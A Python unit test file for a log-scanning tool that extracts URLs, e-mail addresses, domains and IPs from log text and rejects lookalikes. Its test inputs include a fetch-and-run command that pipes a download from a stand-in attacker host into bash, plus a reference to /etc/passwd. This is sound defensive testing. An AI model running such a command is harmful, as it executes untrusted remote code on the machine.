"""URLs and e-mail addresses in the lines of logs, and what only looks like one."""

from __future__ import annotations

import pytest

from tests.unit.sources.observables.finding import found

MD5 = "0cc175b9c0f1b6a831c399e269772661"


@pytest.mark.parametrize(
    "text",
    [
        "user@1000.service",
        "getty@tty1.service",
        "logo@2x.png",
        "HTTP/web.corp.example@CORP.EXAMPLE",
        "a@b",
        "@b.example",
        "krbtgt/CORP.EXAMPLE@CORP.EXAMPLE",
        "lodash@4.17.21",
        "java.lang.Object@1b6d3586",
        "a@b@c.example",
        "x@-.example",
        "a" * 65 + "@b.example",
        "joséph@b.example",
    ],
)
def test_not_everything_with_an_at_sign_is_an_email_address(text: str) -> None:
    assert found(text) == []


def test_what_is_in_an_email_address_is_not_found_once_more() -> None:
    """Mailing lists put digests into the addresses that bounces go to."""
    assert found(f"<{MD5}@lists.example>") == [f"email {MD5}@lists.example"]


def test_the_session_name_of_an_assumed_role_may_be_an_email_address() -> None:
    assert found("arn:aws:sts::123456789012:assumed-role/Admin/bob@corp.example") == ["email bob@corp.example"]


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("see http://evil.example/a.", "http://evil.example/a"),
        ("(http://evil.example/a(b)c)", "http://evil.example/a(b)c"),
        ("[x](http://evil.example/a),", "http://evil.example/a"),
        ("<http://evil.example>", "http://evil.example/"),
        ("url='http://evil.example/a'", "http://evil.example/a"),
        ('"http://evil.example/a\\"', "http://evil.example/a"),
        ("http://evil.example/a\ud800b", "http://evil.example/a"),
        ("curl http://evil.example/a|bash", "http://evil.example/a"),
        ("URL:HTTP://evil.example/a;", "http://evil.example/a"),
        ("h**p://evil.example/a", "http://evil.example/a"),
        ("HXXP://evil.example/a", "http://evil.example/a"),
        ("http://bob:s3cret@evil.example/a", "http://evil.example/a"),
        (r'{"url":"http:\/\/evil.example\/a","n":1}', "http://evil.example/a"),
        (r"{\"url\":\"http:\/\/evil.example\/a\"}", "http://evil.example/a"),
        (r"hxxp:\/\/evil[.]example\/a and \/b", "http://evil.example/a"),
        ("http://evil.example/?u=http://other.example/", "http://evil.example/?u=http://other.example/"),
        (f"http://evil.example/{MD5}/203.0.113.9/a@b.example", f"http://evil.example/{MD5}/203.0.113.9/a@b.example"),
    ],
)
def test_a_url_ends_where_the_text_around_it_goes_on(text: str, url: str) -> None:
    """And what is in it is not found once more, but for its host."""
    assert found(text) == [f"url {url}", "domain evil.example"]


def test_the_host_of_a_url_is_an_observable_of_its_own() -> None:
    assert found("http://203.0.113.9/") == ["url http://203.0.113.9/", "ipv4 203.0.113.9"]
    assert found("http://[2001:db8::1]/") == ["url http://[2001:db8::1]/", "ipv6 2001:db8::1"]
    assert found("http://intranet/a") == ["url http://intranet/a"]


@pytest.mark.parametrize(
    "text",
    [
        "file:///etc/passwd",
        "jdbc:mysql://db.example/x",
        "svn+ssh://h.example/x",
        "http://",
        "http:// x",
        "s3://bucket/x",
        '<Event xmlns="http://schemas.example/event">',
        "<e xmlns:x='http://schemas.example/x'/>",
        "http://\ud800/",
        "http://evil.example/" + "a" * 2048,
    ],
)
def test_not_everything_with_a_scheme_is_a_url_to_look_up(text: str) -> None:
    assert found(text) == []
